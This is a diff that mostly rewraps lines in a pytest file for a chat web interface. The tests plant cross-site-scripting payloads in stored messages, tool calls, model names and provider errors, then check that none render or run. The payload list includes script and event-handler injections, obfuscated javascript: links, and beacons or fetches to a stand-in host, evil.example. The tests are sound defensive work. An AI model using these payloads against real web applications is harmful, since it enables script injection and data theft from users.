@@ -1,4 +1,6 @@
-"""Text of models, tools, files and errors that tries to become script or a request: none of it does."""
+"""Text of models, tools, files and errors that tries to become script or a request:
+none of it does.
+"""
 
 from __future__ import annotations
 
@@ -20,22 +22,35 @@ pytestmark = [pytest.mark.processes, pytest.mark.timeout(400)]
 COUNT, PAGES = 1000, 20
 SCRIPTS = ("window.pwned=1", "fetch('//evil.example/{n}')", "document.title='pwned'", "alert({n})")
 VECTORS = (
-    "<script>{js}</script>", "<img src=x onerror={js}>", "<svg onload={js}>", "<svg><script>{js}</script></svg>",
-    "<iframe srcdoc=\"<script>parent.{js}</script>\">", "<iframe src=javascript:{js}>", "<body onload={js}>",
-    "<a href=javascript:{js}>x</a>", "[x](javascript:{js})", "[x](JaVaScRiPt:{js})", "[x](java\tscript:{js})",
-    "[x](&#106;avascript:{js})", "[x](data:text/html,<script>{js}</script>)", "[x](vbscript:{js})", "<javascript:{js}>",
-    "![x](http://evil.example/{n}.png)", "![x](javascript:{js})", "![x](//evil.example/{n}.png \"t\" onerror={js})",
-    "<img src=http://evil.example/{n}>", "<style>@import '//evil.example/{n}'</style>", "<base href=//evil.example/{n}/>",
-    "<link rel=stylesheet href=//evil.example/{n}>", "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
-    "<form action=//evil.example/{n}><button autofocus onfocus={js}>", "<details open ontoggle={js}>",
+    "<script>{js}</script>", "<img src=x onerror={js}>", "<svg onload={js}>",
+    "<svg><script>{js}</script></svg>",
+    "<iframe srcdoc=\"<script>parent.{js}</script>\">", "<iframe src=javascript:{js}>",
+    "<body onload={js}>",
+    "<a href=javascript:{js}>x</a>", "[x](javascript:{js})", "[x](JaVaScRiPt:{js})",
+    "[x](java\tscript:{js})",
+    "[x](&#106;avascript:{js})", "[x](data:text/html,<script>{js}</script>)", "[x](vbscript:{js})",
+    "<javascript:{js}>",
+    "![x](http://evil.example/{n}.png)", "![x](javascript:{js})",
+    "![x](//evil.example/{n}.png \"t\" onerror={js})",
+    "<img src=http://evil.example/{n}>", "<style>@import '//evil.example/{n}'</style>",
+    "<base href=//evil.example/{n}/>",
+    "<link rel=stylesheet href=//evil.example/{n}>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
+    "<form action=//evil.example/{n}><button autofocus onfocus={js}>",
+    "<details open ontoggle={js}>",
     "<video><source onerror={js}>",
     "<math><mi xlink:href=javascript:{js}>x",
     "<object data=//evil.example/{n}>", "<embed src=//evil.example/{n}>",
-    "</textarea><script>{js}</script>", "\"><script>{js}</script>", "' onmouseover={js} autofocus onfocus={js} x='",
-    "`<img src=x onerror={js}>`", "```html\n<script>{js}</script>\n```", "```x\" onclick={js} y=\"\ncode\n```",
-    "$\\href{{javascript:{js}}}{{x}}$", "[x]: javascript:{js}\n\n[x]", "<!--><img src=x onerror={js}>-->",
-    "<![CDATA[<script>{js}</script>]]>", "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}", "\u202e<script>{js}</script>",
-    "<x-y onclick={js} tabindex=1 autofocus onfocus={js}>", "\x1b]8;;javascript:{js}\x07x\x1b]8;;\x07", "\x00<script>{js}</script>")
+    "</textarea><script>{js}</script>", "\"><script>{js}</script>",
+    "' onmouseover={js} autofocus onfocus={js} x='",
+    "`<img src=x onerror={js}>`", "```html\n<script>{js}</script>\n```",
+    "```x\" onclick={js} y=\"\ncode\n```",
+    "$\\href{{javascript:{js}}}{{x}}$", "[x]: javascript:{js}\n\n[x]",
+    "<!--><img src=x onerror={js}>-->",
+    "<![CDATA[<script>{js}</script>]]>", "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}",
+    "\u202e<script>{js}</script>",
+    "<x-y onclick={js} tabindex=1 autofocus onfocus={js}>",
+    "\x1b]8;;javascript:{js}\x07x\x1b]8;;\x07", "\x00<script>{js}</script>")
 FRAMES = ("{}", "# {}", "> {}", "- {}", "1. {}", "**{}**",
           "| a |\n|---|\n| {} |", "[{}](http://x.example)", "text {} text", "~~{}~~")
 
@@ -54,8 +69,10 @@ def messages_of(payload: str, number: int) -> list[Message]:
     call = ToolCall(f"c{number}", payload, {"q": payload, payload[:40]: [payload]})
     broken = ToolCall(f"d{number}", "x", {}, payload)
     return [Message("user", (Text(payload), Image("image/png", "iVBORw0KGgo=", payload))),
-            Message("assistant", (Thinking(payload), Text(payload), call, broken), f"ollama/{payload}", finish="tool_calls"),
-            Message("tool", (ToolResult(call.id, payload, payload), ToolResult(broken.id, "x", payload, True))),
+            Message("assistant", (Thinking(payload), Text(payload), call, broken),
+                    f"ollama/{payload}", finish="tool_calls"),
+            Message("tool", (ToolResult(call.id, payload, payload),
+                             ToolResult(broken.id, "x", payload, True))),
             Message("assistant", (Text(payload),), payload, finish="interrupted")]
 
 
@@ -63,22 +80,27 @@ def messages_of(payload: str, number: int) -> list[Message]:
 def failing() -> Iterator[FakeServer]:
     """A provider whose errors and model names are payloads."""
     words = payloads(random.Random(7))[:len(VECTORS)]
-    listed = {"data": [{"id": word} for word in words], "models": [{"name": word, "model": word} for word in words]}
+    listed = {"data": [{"id": word} for word in words],
+              "models": [{"name": word, "model": word} for word in words]}
 
     with FakeServer(lambda asked: json_answer(listed) if asked.method == "GET" else json_answer(
-            {"error": {"message": " ".join(words), "type": words[0], "code": words[1]}}, 400)) as server:
+            {"error": {"message": " ".join(words), "type": words[0], "code": words[1]}},
+            400)) as server:
         yield server
 
 
 @pytest.fixture(scope="module")
 def server(failing: FakeServer, home: dict[str, str]) -> Iterator[PageServer]:
     data = Path(home["HOME"]) / "data"
-    with PageServer(home | {"OLLAMA_HOST": failing.url, "STREAM_CHAT_DATA": str(data)}, "-m", "ollama/x") as running:
+    with PageServer(home | {"OLLAMA_HOST": failing.url, "STREAM_CHAT_DATA": str(data)}, "-m",
+                    "ollama/x") as running:
         yield running
 
 
 def stored(server: PageServer, home: dict[str, str], seed: int) -> list[str]:
-    """Sessions with all payloads, written into the store beside the server; returns their identities."""
+    """Sessions with all payloads, written into the store beside the server;
+    returns their identities.
+    """
     path = next(Path(home["HOME"]).rglob("sessions.db"))
     store = open_store(str(path))
     sessions: list[str] = []
@@ -95,7 +117,8 @@ def stored(server: PageServer, home: dict[str, str], seed: int) -> list[str]:
 
 
 @pytest.mark.parametrize("seed", [1])
-def test_stored_text_stays_text(chromium: Browser, server: PageServer, home: dict[str, str], seed: int) -> None:
+def test_stored_text_stays_text(chromium: Browser, server: PageServer, home: dict[str, str],
+                                seed: int) -> None:
     print("seed", seed)
     with Tab(chromium, server) as tab:
         tab.go()
@@ -150,5 +173,7 @@ LOOK = """() => {
 
 
 def assert_only_ours(tab: Tab) -> None:
-    """No element, attribute or address of the payloads is in the page, and no script of theirs ran."""
+    """No element, attribute or address of the payloads is in the page,
+    and no script of theirs ran.
+    """
     assert tab.page.evaluate(LOOK) == []
